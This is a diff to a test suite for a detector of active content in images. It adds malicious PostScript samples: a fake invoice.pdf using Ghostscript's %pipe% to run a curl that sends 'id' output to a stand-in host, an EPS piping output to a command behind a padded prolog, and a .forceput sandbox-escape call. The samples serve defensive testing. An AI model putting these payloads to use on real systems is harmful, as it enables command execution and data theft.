@@ -1062,8 +1062,28 @@ describe('active-content: ImageMagick scripts (MVG, MSL)', () => {
       Buffer.concat([Buffer.from([0xc5, 0xd0, 0xd3, 0xc6]), Buffer.alloc(60)]),
       ['image-script'],
     ],
+    // Under any name, PostScript that has Ghostscript run a command.
+    [
+      'PostScript named .pdf writing to %pipe%',
+      'invoice.pdf',
+      '%!PS\ncurrentdevice null true mark /OutputICCProfile (%pipe%curl http://x/?a=$(id) )\n.putdeviceparams\nquit',
+      ['image-script'],
+    ],
+    [
+      'an EPS whose output file is a pipe, past a long prolog',
+      'logo.eps',
+      `%!PS-Adobe-3.0 EPSF-3.0\n${'% prolog\n'.repeat(1000)}<< /OutputFile (|id) >> setpagedevice\n`,
+      ['image-script'],
+    ],
+    ['a .ps calling .forceput', 'paper.ps', '%!PS\n/x { systemdict /a .forceput } def\n', ['image-script']],
     // Benign look-alikes.
     ['an EPS logo under its own name', 'logo.eps', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n', []],
+    [
+      'a PostScript document that writes to a file of its own',
+      'paper.ps',
+      '%!PS-Adobe-3.0\n/f (out.txt) (w) file def\nf (pipe dreams) writestring\nshowpage\n',
+      [],
+    ],
     ['a PostScript document', 'paper.ps', '%!PS-Adobe-3.0\n%%Pages: 1\nshowpage\n', []],
     ['notes that mention %!', 'notes.txt', 'A PostScript file starts with %!PS.\n', []],
     [
